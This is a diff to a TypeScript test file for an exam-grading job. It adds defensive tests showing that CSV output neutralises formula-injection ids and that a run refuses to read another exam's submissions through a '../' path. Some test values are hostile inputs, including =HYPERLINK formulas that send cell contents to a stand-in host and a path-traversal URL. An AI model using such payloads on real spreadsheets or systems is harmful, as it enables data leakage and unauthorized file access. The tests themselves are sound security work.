@@ -1,10 +1,11 @@
-import { mkdtemp, readFile, rm } from "node:fs/promises";
+import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import * as path from "node:path";
 import { pathToFileURL } from "node:url";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { runLocal, type LocalRun } from "../../local/run-local.ts";
 import { sampleGraderConfig } from "../../workflows/jobs.ts";
+import { csvText } from "../../lib/job-output.ts";
 import { gradeAll } from "./grade.ts";
 
 let scratch: string;
@@ -24,15 +25,31 @@ describe("gradeAll", () => {
   });
 });
 
+describe("csvText (OWASP CSV injection)", () => {
+  it.each([
+    ['=HYPERLINK("http://x.test/?leak="&A1,"click")', `"'=HYPERLINK(""http://x.test/?leak=""&A1,""click"")"`],
+    ["+1+2", "'+1+2"],
+    ["-2+3", "'-2+3"],
+    ["@SUM(A1)", "'@SUM(A1)"],
+    ["\t=1", "'\t=1"],
+    ["\r=1", `"'\r=1"`],
+    ["alice", "alice"],
+    ["a=b", "a=b"],
+  ])("GIVEN the id %j WHEN written THEN it is %s", (id, cell) => {
+    expect(csvText(id)).toBe(cell);
+  });
+});
+
 describe("the grader job on the local engine", () => {
   it("GIVEN the sample answer key and submissions WHEN the job runs THEN grades.csv and its manifest are under the job's output prefix", async () => {
     const config = await sampleGraderConfig(path.join(scratch, "job"));
     const r = await runLocal({ workflow: "grader", input: { config: pathToFileURL(config).href, runId: "exam-1" }, runDir: path.join(scratch, "run"), retryWaitMs: 10 });
     runs.push(r);
     expect(r.result.status, r.summary.error).toBe("SUCCEEDED");
-    expect(r.summary.outputs.keys.sort()).toEqual(["jobs/grader/runs/exam-1/grades.csv", "jobs/grader/runs/exam-1/manifest.json"]);
+    // The config's folder is the exam ("job"); the run writes inside it, under runs/<runId>/.
+    expect(r.summary.outputs.keys.sort()).toEqual(["jobs/grader/exams/job/runs/exam-1/grades.csv", "jobs/grader/exams/job/runs/exam-1/manifest.json"]);
     expect(r.result.states.find((s) => s.name === "Grade (small)")?.status).toBe("SUCCEEDED");
-    const out = path.join(r.runDir, "published", "jobs", "grader", "runs", "exam-1");
+    const out = path.join(r.runDir, "published", "jobs", "grader", "exams", "job", "runs", "exam-1");
     expect(await readFile(path.join(out, "grades.csv"), "utf8")).toBe("id,correct,questions,score_pct\nalice,3,3,100\nbob,1,3,33.3\ncarol,1,3,33.3\n");
     const manifest = JSON.parse(await readFile(path.join(out, "manifest.json"), "utf8"));
     expect(manifest.counts).toEqual({ submissions: 4, graded: 3, invalid: 1 });
@@ -50,5 +67,40 @@ describe("the grader job on the local engine", () => {
     runs.push(failing);
     expect(failing.result.status).toBe("FAILED");
     expect(failing.result.states.find((s) => s.name === "Grade (small)")?.attempts).toBe(3);
+  });
+
+  it("GIVEN a config whose submissions are another exam's WHEN the job runs THEN the read is refused (exit 77, not retried) and nothing is published", async () => {
+    const exams = path.join(scratch, "cross", "exams");
+    await sampleGraderConfig(path.join(exams, "other"));
+    await mkdir(path.join(exams, "mine"), { recursive: true });
+    const config = path.join(exams, "mine", "config.json");
+    const foreign = pathToFileURL(path.join(exams, "other", "submissions.jsonl")).href;
+    for (const [runId, submissions] of [["cross-1", foreign], ["cross-2", `${pathToFileURL(path.join(exams, "mine")).href}/../other/submissions.jsonl`]]) {
+      await writeFile(config, JSON.stringify({ answerKey: { q1: "b" }, submissions }));
+      const r = await runLocal({ workflow: "grader", input: { config: pathToFileURL(config).href, runId }, runDir: path.join(scratch, `run-${runId}`), retryWaitMs: 10 });
+      runs.push(r);
+      expect(r.result.status).toBe("FAILED");
+      expect(r.summary.error).toMatch(/submissions .* is outside this run's exam .*\/exams\/mine\/: a grader run reads only its own exam's objects/);
+      expect(r.result.cause).toContain('"ExitCode":77');
+      expect(r.result.states.find((s) => s.name === "Grade (small)")?.attempts).toBe(1);
+      expect(r.summary.outputs.keys).toEqual([]);
+    }
+  });
+
+  it("GIVEN submissions whose ids are formulas WHEN graded THEN grades.csv holds them as inert text", async () => {
+    const dir = path.join(scratch, "formula", "exams", "f");
+    await mkdir(dir, { recursive: true });
+    const submissions = path.join(dir, "submissions.jsonl");
+    const evil = '=HYPERLINK("http://x.test/?d="&B2,"open")';
+    await writeFile(submissions, [JSON.stringify({ id: evil, answers: { q1: "b" } }), JSON.stringify({ id: "@cmd", answers: { q1: "a" } })].join("\n"));
+    const config = path.join(dir, "config.json");
+    await writeFile(config, JSON.stringify({ answerKey: { q1: "b" }, submissions: pathToFileURL(submissions).href }));
+    const r = await runLocal({ workflow: "grader", input: { config: pathToFileURL(config).href, runId: "formula" }, runDir: path.join(scratch, "run-formula"), retryWaitMs: 10 });
+    runs.push(r);
+    expect(r.result.status, r.summary.error).toBe("SUCCEEDED");
+    const csv = await readFile(path.join(r.runDir, "published", "jobs", "grader", "exams", "f", "runs", "formula", "grades.csv"), "utf8");
+    expect(csv).toBe(`id,correct,questions,score_pct\n"'=HYPERLINK(""http://x.test/?d=""&B2,""open"")",1,1,100\n'@cmd,0,1,0\n`);
+    // No cell of the file starts with a formula character once its quotes are removed.
+    for (const line of csv.trim().split("\n").slice(1)) expect(line.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
